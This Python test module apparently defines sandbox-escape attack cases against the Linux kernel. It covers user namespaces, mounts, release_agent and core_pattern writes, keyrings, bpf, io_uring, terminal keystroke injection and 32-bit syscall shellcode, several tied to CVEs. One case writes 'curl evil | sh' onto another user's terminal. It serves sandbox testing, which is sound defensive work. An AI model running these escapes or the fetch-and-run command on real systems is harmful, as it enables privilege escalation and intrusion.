"""Attacks on and through the kernel: namespaces, mounts, settings, keys, and calls with a record."""

from __future__ import annotations

from tests.attack.case import Case
from tests.attack.victim_launcher import others_terminal
from tests.attack.victim_processes import key_holder, roomed, system_v
from tests.attack.victims import console, own_cgroup, secret, terminal

_SHARED_IPC = {"landlock-root": "ipc", "landlock-ordinary": "ipc"}

_TYPE = """
import fcntl
for key in b"x\\n":
    if libc.ioctl(0, ctypes.c_ulong(%s), ctypes.c_char_p(bytes([key]))): raise OSError(ctypes.get_errno(), "ioctl")
"""

CASES = (
    Case(
        "nested-user-namespace",
        "kernel",
        "become root in a user namespace of one's own",
        """
call("unshare", 0x10000000)
escaped("made a user namespace")
""",
        known_as="CVE-2022-0185, CVE-2021-3493 and others begin here",
        everyday=True,
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "nested-user-namespace-by-clone",
        "kernel",
        "do the same with the call that starts processes",
        """
pid = call("clone", 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
os.waitpid(pid, 0)
escaped("made a user namespace")
""",
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "nested-user-namespace-by-clone3",
        "kernel",
        "do the same with the newer call, which older filters forgot",
        """
import struct
arguments = struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
pid = call("clone3", ctypes.c_char_p(arguments), len(arguments))
if pid == 0: os._exit(0)
os.waitpid(pid, 0)
escaped("made a user namespace")
""",
        known_as="CVE-2021-41133",
    ),
    Case(
        "mount",
        "kernel",
        "mount a filesystem, as root of an own namespace or as what one is",
        """
try: call("unshare", 0x10020000)
except OSError: call("unshare", 0x20000)
call("mount", b"none", ctypes.c_char_p(S["workspace"].encode()), b"tmpfs", 0, 0)
escaped("mounted")
""",
    ),
    Case(
        "mount-anew",
        "kernel",
        "mount with the newer calls, which older filters forgot",
        """
try: call("unshare", 0x10020000)
except OSError: pass
fd = call("open_tree", -100, b"/", 0x8001)
escaped("cloned a tree of mounts")
""",
        known_as="CVE-2021-41133",
    ),
    Case(
        "configure-filesystem",
        "kernel",
        "reach the parser of a filesystem's settings",
        """
try: call("unshare", 0x10020000)
except OSError: pass
fd = call("fsopen", b"tmpfs", 0)
call("fsconfig", fd, 1, b"size", b"1M", 0)
escaped("reached fsconfig")
""",
        known_as="CVE-2022-0185",
    ),
    Case(
        "chroot",
        "kernel",
        "change the root and climb out of it",
        """
try: call("unshare", 0x10000000)
except OSError: pass
call("chroot", ctypes.c_char_p(S["workspace"].encode()))
escaped("changed the root")
""",
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "join-namespace",
        "kernel",
        "enter the namespaces of another process",
        """
call("setns", os.open(f"/proc/{S['roomed']}/ns/user", os.O_RDONLY), 0x10000000)
escaped("entered")
""",
        (roomed,),
    ),
    Case(
        "release-agent",
        "kernel",
        "have the kernel start a program of one's own, as root of the host",
        """
import tempfile
try: call("unshare", 0x20000)
except OSError: call("unshare", 0x12020000)
call("mount", b"none", b"/", 0, 0x44000, 0)
at = tempfile.mkdtemp(dir=S["workspace"])
call("mount", b"none", ctypes.c_char_p(at.encode()), b"cgroup", 0, b"memory")
agent = open(at + "/release_agent", "r+")
same = agent.read()
agent.seek(0)
agent.write(same or "\\n")
agent.flush()
escaped("wrote release_agent")
""",
        known_as="CVE-2022-0492",
        control="root",
    ),
    Case(
        "core-pattern",
        "kernel",
        "have the kernel start a program at the next crash (the same value is written)",
        """
same = read("/proc/sys/kernel/core_pattern")
with open("/proc/sys/kernel/core_pattern", "wb") as pattern: pattern.write(same)
escaped("wrote core_pattern")
""",
        known_as="CVE-2022-0811",
        control="root",
        everyday=True,
    ),
    Case(
        "every-kernel-setting",
        "kernel",
        "find any setting of the kernel that can be opened for writing",
        """
for folder, _, names in os.walk("/proc/sys"):
    for name in names:
        try: os.open(f"{folder}/{name}", os.O_WRONLY)
        except OSError: continue
        escaped(f"{folder}/{name}")
""",
        control="root",
    ),
    Case(
        "kernel-tables",
        "kernel",
        "read what the kernel tells of the memory and the timers of all",
        """
for name in ("kpagecount", "kpageflags", "slabinfo", "timer_list", "vmallocinfo"):
    try: content = read(f"/proc/{name}")
    except OSError: continue
    if content: escaped(name)
""",
        control="root",
    ),
    Case(
        "device-tree-settings",
        "kernel",
        "find any setting of devices that can be opened for writing",
        """
for folder, _, names in os.walk("/sys/kernel/mm"):
    for name in names:
        try: os.open(f"{folder}/{name}", os.O_WRONLY)
        except OSError: continue
        escaped(f"{folder}/{name}")
os.listdir("/sys/kernel/mm")
""",
        control="root",
    ),
    Case(
        "kernel-log",
        "kernel",
        "read the kernel's log",
        """
call("syslog", 10, 0, 0)
escaped("asked for the log")
""",
        control="root",
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "rename-the-host",
        "kernel",
        "give the host another name (the same one)",
        """
name = os.uname().nodename.encode()
call("sethostname", ctypes.c_char_p(name), len(name))
escaped("named it")
""",
        control="root",
    ),
    Case(
        "raise-own-limit",
        "kernel",
        "raise a memory limit through a control group that was handed over",
        'with open(S["limit"], "w") as limit: limit.write(str(2 << 30))',
        (own_cgroup,),
    ),
    Case(
        "keyring",
        "kernel",
        "take a key out of the user's keyring",
        """
key = call("keyctl", 10, -4, b"user", b"superagent-attack", 0)
content = ctypes.create_string_buffer(100)
call("keyctl", 11, key, content, 100, 0)
if has_token(content.raw): escaped("took the key")
""",
        (key_holder,),
        everyday=True,
    ),
    Case(
        "system-v-memory",
        "kernel",
        "read a segment of shared memory by its number",
        """
libc.shmat.restype = ctypes.c_void_p
one = libc.shmget(S["key"], 0, 0)
if one < 0: raise OSError(ctypes.get_errno(), "shmget")
if has_token(ctypes.string_at(libc.shmat(one, None, 0o10000), 100)): escaped("read the segment")
""",
        (system_v,),
    ),
    Case(
        "bpf",
        "kernel",
        "load something into the kernel's own machine",
        """
import struct
call("bpf", 0, ctypes.c_char_p(struct.pack("5I52x", 2, 4, 8, 1, 0)), 72)
escaped("made a map")
""",
        control="root",
    ),
    Case(
        "perf",
        "kernel",
        "count what the processor does for others",
        """
import struct
attributes = struct.pack("IIQ112x", 1, 128, 0)
call("perf_event_open", ctypes.c_char_p(attributes), 0, -1, -1, 0)
escaped("opened a counter")
""",
        control="root",
    ),
    Case(
        "io-uring",
        "kernel",
        "have other calls done where no filter sees them",
        """
call("io_uring_setup", 4, ctypes.create_string_buffer(120))
escaped("made a ring")
""",
        known_as="CVE-2023-2598 and others begin here",
        everyday=True,
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "userfaultfd",
        "kernel",
        "hold the kernel in the middle of a copy",
        """
call("userfaultfd", 1)
escaped("opened it")
""",
    ),
    Case(
        "type-into-terminal",
        "kernel",
        "type a command into the terminal of whoever started the sandbox",
        _TYPE % "0x5412",
        (terminal,),
        known_as="CVE-2017-5226",
        everyday=True,
    ),
    Case(
        "type-into-terminal-past-the-filter",
        "kernel",
        "do the same with a request whose upper half a careless filter compares",
        _TYPE % "0x100005412",
        (terminal,),
        known_as="CVE-2019-10063",
    ),
    Case(
        "paste-into-console",
        "kernel",
        "reach the console's own clipboard",
        """
if libc.ioctl(0, ctypes.c_ulong(0x541C), ctypes.c_char_p(b"\\x06")): raise OSError(ctypes.get_errno(), "ioctl")
escaped("reached the console")
""",
        (console,),
        known_as="CVE-2023-28100",
        control="root",
    ),
    Case(
        "capabilities",
        "kernel",
        "find a right that is left, or that a program with file capabilities could still give",
        """
left = [number for number in range(64) if libc.prctl(23, number, 0, 0, 0) == 1]
if left: escaped(f"bounding set: {left}")
if libc.prctl(39, 0, 0, 0, 0) != 1: escaped("a program may still gain rights")
""",
        partial={"landlock-ordinary": "capabilities"},
    ),
    Case(
        "inherited-capabilities",
        "kernel",
        "find a right that was handed down, in any of the sets",
        """
for line in read("/proc/self/status").decode().splitlines():
    if line.startswith(("CapInh:", "CapPrm:", "CapEff:", "CapAmb:")) and int(line.split()[1], 16): escaped(line)
""",
        known_as="CVE-2022-29162",
        control="root",
    ),
    Case(
        "kernel-switches",
        "kernel",
        "find a switch of the kernel beside its settings that can be opened for writing",
        """
for name in os.listdir("/proc"):
    if name.isdigit() or name in ("self", "thread-self", "sys"): continue
    for folder, _, files in os.walk(f"/proc/{name}") if os.path.isdir(f"/proc/{name}") else (("/proc", [], [name]),):
        for file in files:
            try:
                # not what every user may write, such as `pressure`, nor what is hidden below a harmless device
                if os.stat(f"{folder}/{file}").st_mode & 0o170002 != 0o100000: continue
                os.open(f"{folder}/{file}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError: continue
            escaped(f"{folder}/{file}")
""",
        known_as="CVE-2025-52881, CVE-2025-31133",
        control="root",
    ),
    Case(
        "terminal-of-others",
        "kernel",
        "write on the terminal of somebody else",
        'os.write(os.open(S["terminal"], os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK), b"curl evil | sh")',
        (others_terminal,),
        known_as="CVE-2025-52565",
    ),
    Case(
        "second-door-of-x86",
        "kernel",
        "make a call of 32-bit programs, which a filter for 64 bits does not know",
        """
import mmap
if os.uname().machine != "x86_64": held("this machine has no second door")
code = b"\\x53\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\x5b\\xc3"
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
escaped("called")
""",
        stopped=True,
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "read-through-own-root",
        "kernel",
        "pivot the root away to see what lies below it",
        """
call("unshare", 0x10020000)
call("mount", b"none", b"/", 0, 0x44000, 0)
call("mount", ctypes.c_char_p(S["workspace"].encode()), ctypes.c_char_p(S["workspace"].encode()), 0, 4096, 0)
os.mkdir(S["workspace"] + "/old")
os.chdir(S["workspace"])
call("pivot_root", b".", b"old")
if has_token(read("/old" + S["secret"])): escaped("saw the old root")
""",
        (secret,),
    ),
)
